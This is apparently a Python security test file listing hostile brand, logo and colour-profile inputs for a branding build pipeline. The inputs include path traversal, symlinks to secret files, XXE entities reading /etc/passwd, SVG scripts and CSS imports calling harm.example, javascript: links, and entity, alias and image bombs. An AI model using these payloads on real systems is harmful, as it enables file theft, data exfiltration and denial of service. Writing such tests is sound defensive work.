"""Brands, logos and printers' profiles."""

import struct
import zlib
from pathlib import Path

from attacks import Attack, Make, build, edited, secret

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 3">{}</svg>'
DOCTYPE = '<!DOCTYPE svg [{}]><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 3"><desc>&e;</desc></svg>'
NESTED = "".join(
    f'<g id="n{level}">' + f'<use href="#n{level - 1}"/>' * 10 + "</g>" if level else '<path id="n0" d="M0 0h1v1z"/>'
    for level in range(10)
)


def brand(old: str, new: str) -> Make:
    def make(home: Path) -> list[str]:
        edited(home / "brands" / "harbour" / "brand.yaml", old, new)
        return build(home)

    return make


def linked_brand(home: Path) -> list[str]:
    """The folder of the brand leads out of the folder of brands."""
    folder = home / "brands" / "harbour"
    folder.rename(home.parent / "outside" / "harbour")
    folder.symlink_to(home.parent / "outside" / "harbour", target_is_directory=True)
    return build(home)


def huge_brand(home: Path) -> list[str]:
    with (home / "brands" / "harbour" / "brand.yaml").open("ab") as file:
        file.truncate(2**40)
    return build(home)


MARK = "{path: mark.svg, alt"
BRANDS = (
    ("a logo that climbs", "SRC-0", brand(MARK, "{path: ../../../outside/secret.svg, alt")),
    ("a logo from the root", "SRC-0", brand(MARK, "{path: /etc/logo.svg, alt")),
    ("a logo that is an address", "SRC-0", brand(MARK, "{path: 'https://harm.example/x.svg', alt")),
    ("a colour that is a style sheet", "SRC-0", brand('"#1B2733"', '"#000;} @import url(//harm.example)"')),
    (
        "a typeface that is a style sheet",
        "BRD-05",
        brand("headings: Lato", "headings: 'x; src: url(file:///etc/passwd)'"),
    ),
    ("a link that runs a script", "SRC-0", brand('link: "https://harbour.example"', 'link: "javascript:alert(1)"')),
    ("a link to a file", "SRC-0", brand('link: "https://harbour.example"', 'link: "file:///etc/passwd"')),
    ("a presentation that climbs", "SRC-0", brand("emergency:", "deck: {template: ../../x.pptx}\nemergency:")),
    ("a folder that leads elsewhere", "BRD-01", linked_brand),
    ("a file of a terabyte", "BRD-01", huge_brand),
    ("aliases that unfold", "SRC-01", brand("id: harbour", "id: &a harbour\nx: [*a, *a]")),
)


def logo(content: bytes | str, name: str = "mark.svg") -> Make:
    def make(home: Path) -> list[str]:
        folder = home / "brands" / "harbour"
        (folder / name).write_bytes(content.encode() if isinstance(content, str) else content)
        if name != "mark.svg":
            edited(folder / "brand.yaml", "path: mark.svg", f"path: {name}")
        return build(home)

    return make


def linked_logo(home: Path) -> list[str]:
    path = home / "brands" / "harbour" / "mark.svg"
    path.unlink()
    path.symlink_to(secret(home))
    return build(home)


def png(width: int, height: int, body: bytes = b"\0\0\0\0") -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + content))
        return struct.pack(">I", len(content)) + kind + content + check

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(body)) + chunk(b"IEND", b"")


def shape(inside: str) -> Make:
    return logo(SVG.format(inside))


LOGOS = (
    ("a script", "BRD-02", shape("<script>fetch('//harm.example')</script>")),
    ("a script of a web page", "BRD-02", shape('<script xmlns="http://www.w3.org/1999/xhtml">1</script>')),
    ("a script that runs when it is seen", "BRD-02", shape('<path d="M0 0h1" onload="alert(1)"/>')),
    ("a picture from elsewhere", "BRD-02", shape('<image href="https://harm.example/x.png"/>')),
    ("a picture of the machine", "BRD-02", shape('<image href="file:///etc/passwd"/>')),
    ("a shape from elsewhere", "BRD-02", shape('<use xlink:href="https://harm.example/x.svg#a"/>')),
    ("a web page inside", "BRD-02", shape("<foreignObject><p/></foreignObject>")),
    ("a style that loads", "BRD-02", shape("<style>@import '//harm.example/x.css';</style>")),
    ("a style that loads under another spelling", "BRD-02", shape("<style>@\\69mport '//harm.example';</style>")),
    ("a fill that loads", "BRD-02", shape('<path d="M0 0h1" style="fill:u\\72l(//harm.example)"/>')),
    (
        "a style sheet beside it",
        "BRD-02",
        logo("<?xml-stylesheet href='//harm.example'?>" + SVG.format("<g><?x y?></g>")),
    ),
    ("an entity that reads a file", "BRD-02", logo(DOCTYPE.format('<!ENTITY e SYSTEM "file:///etc/passwd">'))),
    ("entities that unfold", "BRD-02", logo(DOCTYPE.format('<!ENTITY d "dd"><!ENTITY e "&d;&d;&d;">'))),
    (
        "a document type from elsewhere",
        "BRD-02",
        logo('<!DOCTYPE svg SYSTEM "http://harm.example/x">' + SVG.format("<g/>")),
    ),
    ("shapes that unfold to a thousand million", "BRD-02", shape(NESTED)),
    ("a shape within itself", "BRD-02", shape('<g id="a"><use href="#a"/></g>')),
    (
        "a mask within itself",
        "BRD-02",
        shape('<style>.c{mask:url(#m)}</style><mask id="m"><path class="c" d="M0 0"/></mask>'),
    ),
    ("elements without end", "BRD-02", shape("<g/>" * 30_000)),
    ("elements within elements without end", "BRD-02", shape("<g>" * 5_000 + "</g>" * 5_000)),
    ("two million bytes", "BRD-02", shape(" " * 2_000_000)),
    ("another kind of XML", "BRD-02", logo("<html><body/></html>")),
    ("a link to a file elsewhere", "BRD-02", linked_logo),
    ("a picture of a thousand million points", "BRD-02", logo(png(60_000, 60_000), "mark.png")),
    ("a picture that is not whole", "BRD-02", logo(png(90, 30)[:-20], "mark.png")),
    ("a picture of another kind", "BRD-02", logo(b"GIF89a" + bytes(99), "mark.png")),
    ("a picture with less in it than it says", "BRD-02", logo(png(900, 300), "mark.png")),
)


def profile(content: bytes, name: str = "p.icc") -> Make:
    def make(home: Path) -> list[str]:
        folder = home / "brands" / "harbour"
        (folder / "p.icc").write_bytes(content)
        told = f"  profile: {{file: '{name}', identifier: X, condition: Invented}}\n  cmyk:\n"
        edited(folder / "brand.yaml", "  cmyk:\n", told)
        return build(home)

    return make


def icc(size: int, kind: bytes = b"prtr", space: bytes = b"CMYK", version: int = 2) -> bytes:
    """A header that says so, and zeros."""
    head = bytearray(128)
    head[:4], head[8], head[12:16], head[16:20], head[36:40] = struct.pack(">I", size), version, kind, space, b"acsp"
    return bytes(head)


PROFILES = (
    ("no profile", "BRD-03", profile(b"MZ" + bytes(500))),
    ("longer than it says", "BRD-03", profile(icc(4_000_000))),
    ("a screen's", "BRD-03", profile(icc(128, b"mntr"))),
    ("in other colours", "BRD-03", profile(icc(128, space=b"RGB "))),
    ("a name that climbs", "SRC-0", profile(icc(128), "../../outside/secret.icc")),
    ("twenty million bytes", "BRD-03", profile(icc(20_000_000) + bytes(19_999_872))),
)

ATTACKS = tuple(
    Attack(kind, *attack)
    for kind, attacks in (("brand", BRANDS), ("logo", LOGOS), ("profile", PROFILES))
    for attack in attacks
)
